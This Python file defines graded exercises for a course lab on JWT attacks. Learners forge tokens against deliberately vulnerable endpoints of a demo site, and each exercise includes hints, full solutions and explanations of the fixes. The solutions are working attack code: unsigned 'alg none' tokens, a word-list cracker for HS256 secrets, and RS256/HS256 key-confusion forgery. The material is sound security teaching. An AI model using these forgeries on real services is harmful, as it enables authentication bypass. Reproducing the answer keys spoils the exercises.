"""Exercises of lesson 11a · JWT attack lab (part a): decode is not verify, alg none, a weak secret, confusion.

Each check sends the learner's forged token to the vulnerable endpoint (it
must accept it and say bob is admin) and to the fixed API (it must refuse
it), and checks the token's own properties (an unsigned token has no
signature; a confused token is HMAC-signed with the public key's exact bytes).
Django is never imported here: the checks only speak HTTP (the site's public key too).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import random
import secrets

from course_helpers.exercises._jwt_lab import hs256_signature, judge, read_token
from course_helpers.exercises.answer_types import FUNCTION, TEXT
from course_helpers.exercises.core import Attempt, Incorrect, Lesson, WrongAnswer
from course_helpers.exercises.kinds import HttpTask

LESSON = Lesson("11a", "JWT attack lab (part a)")

DECODE_ONLY = "/vulnerable/jwt/decode-only/whoami/"
NAIVE = "/vulnerable/jwt/naive/whoami/"
WEAK = "/vulnerable/jwt/weak-secret/whoami/"

# -- q1: decode is not verify ------------------------------------------------------------------------


def _inspect_decode_only(attempt: Attempt) -> str:
    token = attempt["bob_token"]
    read_token(token, "bob_token")
    return judge(attempt, token, DECODE_ONLY, "bob")


q1 = LESSON.add(
    "q1",
    HttpTask(
        title="Be bob, an admin, with a token the site never saw",
        variables={"bob_token": TEXT},
        inspect=_inspect_decode_only,
        hints=[
            f"{DECODE_ONLY} reads the payload and never looks at the signature: any signature will do as the "
            "third part. You need no token from the site at all.",
            "Build the three parts yourself: b64url_json(header), b64url_json(payload), and any signature (base64url: "
            'b64url(b"anything")), joined by dots. The payload needs "sub": "bob" and "admin": True.',
            'bob_token = ".".join([b64url_json({"alg": "RS256", "typ": "at+jwt"}), '
            'b64url_json({"sub": "bob", "admin": True}), b64url(b"forged")])',
        ],
        solution="""
            header = {"alg": "RS256", "typ": "at+jwt", "kid": "lab-rsa-1"}
            payload = {"sub": "bob", "admin": True}
            bob_token = ".".join([b64url_json(header), b64url_json(payload), b64url(b"not a signature")])
        """,
        why=(
            "jwt.decode(token, options={'verify_signature': False}) is a parser, not a verifier: whatever the "
            "payload says is believed. The signature is the only thing that ties a token to the site's key, so "
            "the fixed API checks it before reading a single claim (ASVS 5.0 9.1.1)."
        ),
        wrong_answers=[
            WrongAnswer("bob_token = alice_token", "'alice'"),
            WrongAnswer("bob_token = forged", "'alice'"),
            WrongAnswer(
                'bob_token = ".".join([b64url_json({"alg": "RS256"}), b64url_json({"sub": "bob"}), b64url(b"forged")])',
                "does not say admin",
            ),
            WrongAnswer(
                'bob_token = ".".join([b64url_json({"alg": "RS256"}), b64url_json({"sub": "bob", "admin": "true"}), b64url(b"forged")])',
                "JSON true",
            ),
            WrongAnswer("bob_token = 'Bearer ' + forged", "give the token alone"),
            WrongAnswer(
                "bob_token = jwt.encode({'sub': 'bob', 'admin': True}, keys.private_key(), algorithm='RS256',\n"
                "                       headers={'kid': 'lab-rsa-1', 'typ': 'at+jwt'})",
                "genuine signature of the site's own RSA key",
            ),
        ],
    ),
)

# -- q2: alg none, made by PyJWT ---------------------------------------------------------------------


def _inspect_none(attempt: Attempt) -> str:
    token = attempt["none_token"]
    header, _, signature = read_token(token, "none_token")
    if header.get("alg") != "none":
        raise Incorrect(
            f"The header of `none_token` says alg {header.get('alg')!r}: the attack is a token that says "
            "alg 'none' (exactly that, in lower case)."
        )
    if signature:
        raise Incorrect(
            "`none_token` says alg 'none' but still carries a signature: an unsigned token ends with the dot, "
            "with nothing after it. (The naive verifier ignores it; a stricter parser would refuse the token.)"
        )
    return judge(attempt, token, NAIVE, "bob") + " PyJWT made the token; PyJWT's decode would refuse it."


q2 = LESSON.add(
    "q2",
    HttpTask(
        title="An unsigned token, made by PyJWT itself",
        variables={"none_token": TEXT},
        inspect=_inspect_none,
        hints=[
            "PyJWT can write an unsigned token too: its encode() knows the algorithm 'none'.",
            "With algorithm='none' there is no key: pass None as the key.",
            'none_token = jwt.encode({"sub": "bob", "admin": True}, None, algorithm="none")',
        ],
        solution="""
            none_token = jwt.encode({"sub": "bob", "admin": True}, None, algorithm="none")
        """,
        why=(
            "RFC 7519 defines unsecured JWTs, so a library can write them; what matters is what a verifier "
            "accepts. PyJWT's decode() refuses 'none' unless you list it in algorithms=[...]; the naive verifier "
            "took the algorithm from the token, so the token chose to have no signature (ASVS 5.0 9.1.2)."
        ),
        wrong_answers=[
            WrongAnswer("none_token = forged_none", "'alice'"),
            WrongAnswer(
                'none_token = forge({"alg": "none"}, {"sub": "bob", "admin": True}) + alice_token.split(".")[2]',
                "still carries a signature",
            ),
            WrongAnswer(
                'none_token = forge({"alg": "None"}, {"sub": "bob", "admin": True})',
                "says alg 'None'",
            ),
            WrongAnswer(
                'none_token = forge({"alg": "HS256"}, {"sub": "bob", "admin": True}, b"a guess")',
                "says alg 'HS256'",
            ),
        ],
    ),
)

# -- q3: crack any weak secret, then forge ---------------------------------------------------------------


def _hs256_token(secret: str, payload: dict) -> str:
    def part(obj: dict) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()

    signing_input = part({"alg": "HS256", "typ": "JWT"}) + "." + part(payload)
    signature = hmac.new(secret.encode(), signing_input.encode(), hashlib.sha256).digest()
    return signing_input + "." + base64.urlsafe_b64encode(signature).rstrip(b"=").decode()


def _word_list() -> list[str]:
    from demo_site.jwt_lab.keys import words  # reads a text file; no Django needed

    return words()


def _inspect_crack(attempt: Attempt) -> str:
    crack, token = attempt["crack"], attempt["bob_admin"]
    words = _word_list()
    for word in random.SystemRandom().sample(words, 3):
        sample = _hs256_token(word, {"sub": "carol", "n": secrets.token_hex(4)})
        found = attempt.call(crack, sample, list(words))
        if found != word:
            raise Incorrect(
                f"crack(token, words) returned {found!r} for a token the check signed with {word!r}: it must "
                "try each word and return the one whose HMAC-SHA256 signature matches (base64url, no padding)."
            )
    strong = _hs256_token(secrets.token_hex(32), {"sub": "carol"})
    found = attempt.call(crack, strong, list(words))
    if found is not None:
        raise Incorrect(
            f"crack() returned {found!r} for a token signed with 32 random bytes, a key in no word list: "
            "when no word matches it must return None."
        )
    read_token(token, "bob_admin")
    return "crack() found three random words and knew when to give up. " + judge(attempt, token, WEAK, "bob")


q3 = LESSON.add(
    "q3",
    HttpTask(
        title="A cracker for any HS256 token, then bob as admin",
        variables={"crack": FUNCTION, "bob_admin": TEXT},
        inspect=_inspect_crack,
        hints=[
            "crack(token, words) tries every word as the HMAC key of the token's first two parts and compares "
            "with its third part; the check runs it on tokens signed with words of its own choosing.",
            "The signing input is token.rsplit('.', 1)[0]; a guess is right when "
            "b64url(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest()) equals the signature. "
            "Return None after the loop.",
            "Then bob_admin = forge({'alg': 'HS256', 'typ': 'JWT'}, {'sub': 'bob', 'admin': True, "
            "'exp': int(time.time()) + 600}, crack(bob_sample, words).encode()).",
        ],
        solution="""
            def crack(token, words):
                signing_input, _, signature = token.rpartition(".")
                for word in words:
                    guess = hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest()
                    if hmac.compare_digest(b64url(guess), signature):
                        return word
                return None

            bob_admin = forge(
                {"alg": "HS256", "typ": "JWT"},
                {"sub": "bob", "admin": True, "exp": int(time.time()) + 600},
                crack(bob_sample, words).encode(),
            )
        """,
        why=(
            "One token and a word list are all it takes: each guess costs one HMAC, offline, and the site never "
            "sees a single attempt. An HMAC key must be as hard to guess as a key: 32 random bytes "
            "(secrets.token_bytes(32)), or an asymmetric key pair whose private half never leaves the issuer."
        ),
        wrong_answers=[
            WrongAnswer(
                "def crack(token, words):\n    return secret\nbob_admin = forged_weak", "signed with"
            ),
            WrongAnswer(
                "def crack(token, words):\n"
                "    signing_input, _, signature = token.rpartition('.')\n"
                "    for word in words:\n"
                "        if hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).hexdigest() == signature:\n"
                "            return word\n"
                "bob_admin = forged_weak",
                "returned None",
            ),
            WrongAnswer(
                "def crack(token, words):\n"
                "    signing_input, _, signature = token.rpartition('.')\n"
                "    for word in words:\n"
                "        if b64url(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest()) == signature:\n"
                "            return word\n"
                "    return words[0]\n"
                "bob_admin = forged_weak",
                "must return None",
            ),
            WrongAnswer(
                "def crack(token, words):\n"
                "    signing_input, _, signature = token.rpartition('.')\n"
                "    for word in words:\n"
                "        if b64url(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest()) == signature:\n"
                "            return word\n"
                "bob_admin = bob_sample",
                "does not say admin",
            ),
            WrongAnswer(
                "def crack(token, words):\n"
                "    signing_input, _, signature = token.rpartition('.')\n"
                "    for word in words:\n"
                "        if b64url(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest()) == signature:\n"
                "            return word\n"
                "bob_admin = forge({'alg': 'HS256'}, {'sub': 'bob', 'admin': True, 'exp': 1}, secret.encode())",
                "expired",
            ),
        ],
    ),
)

# -- q4: algorithm confusion with the key from the JWKS -------------------------------------------------


def _served_pem(attempt: Attempt) -> bytes:
    with attempt.site.client() as client:
        return client.get("/jwt-lab/public-key.pem").content


def _inspect_confusion(attempt: Attempt) -> str:
    token = attempt["confused_token"]
    header, _, signature = read_token(token, "confused_token")
    if header.get("alg") != "HS256":
        raise Incorrect(
            f"The header of `confused_token` says alg {header.get('alg')!r}: the confusion is an HS256 token "
            "(an HMAC) checked by a verifier whose only key is the RSA public key."
        )
    pem = _served_pem(attempt)
    if signature != hs256_signature(pem, token):
        if signature in (
            hs256_signature(pem.strip(), token),
            hs256_signature(pem.replace(b"\n", b""), token),
        ):
            raise Incorrect(
                "Your HMAC key is the PEM without its newlines (or its last one): the verifier uses the exact "
                "bytes it holds, trailing newline included."
            )
        raise Incorrect(
            "`confused_token` is not HMAC-signed with the public key's PEM bytes (SubjectPublicKeyInfo, as "
            "/jwt-lab/public-key.pem serves them). Turn the JWK into a key, then into those PEM bytes."
        )
    return judge(attempt, token, NAIVE, "bob")


q4 = LESSON.add(
    "q4",
    HttpTask(
        title="Algorithm confusion with the key from the JWKS",
        variables={"confused_token": TEXT},
        inspect=_inspect_confusion,
        hints=[
            "Pretend /jwt-lab/public-key.pem did not exist: the public key is also published as a JWK at "
            "/jwt-lab/jwks.json. Rebuild the very PEM bytes the verifier holds from it.",
            "jwt.algorithms.RSAAlgorithm.from_jwk(jwk) gives a public key object; its "
            "public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo) gives PEM bytes "
            "(from cryptography.hazmat.primitives.serialization).",
            "Then confused_token = forge({'alg': 'HS256', 'typ': 'JWT'}, {'sub': 'bob', 'admin': True}, those_bytes).",
        ],
        solution="""
            from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
            from jwt.algorithms import RSAAlgorithm

            jwk = attacker.get("/jwt-lab/jwks.json").json()["keys"][0]
            rebuilt = RSAAlgorithm.from_jwk(jwk).public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
            confused_token = forge({"alg": "HS256", "typ": "JWT"}, {"sub": "bob", "admin": True}, rebuilt)
        """,
        why=(
            "A public key is public in every form: a JWK and a PEM are two spellings of the same numbers, so "
            "anyone can rebuild the exact bytes a confused verifier uses as its HMAC secret. The fix is not to "
            "hide the key but to fix the algorithm per key: algorithms=['RS256'] (ASVS 5.0 9.1.2)."
        ),
        wrong_answers=[
            WrongAnswer(
                'confused_token = forge({"alg": "HS256"}, {"sub": "bob", "admin": True}, pem.strip())',
                "trailing newline",
            ),
            WrongAnswer("confused_token = alice_token", "says alg 'RS256'"),
            WrongAnswer(
                "import json\n"
                'jwk = attacker.get("/jwt-lab/jwks.json").json()["keys"][0]\n'
                'confused_token = forge({"alg": "HS256"}, {"sub": "bob", "admin": True}, json.dumps(jwk).encode())',
                "not HMAC-signed with the public key's PEM",
            ),
            WrongAnswer("confused_token = confused", "'alice'"),
        ],
    ),
)
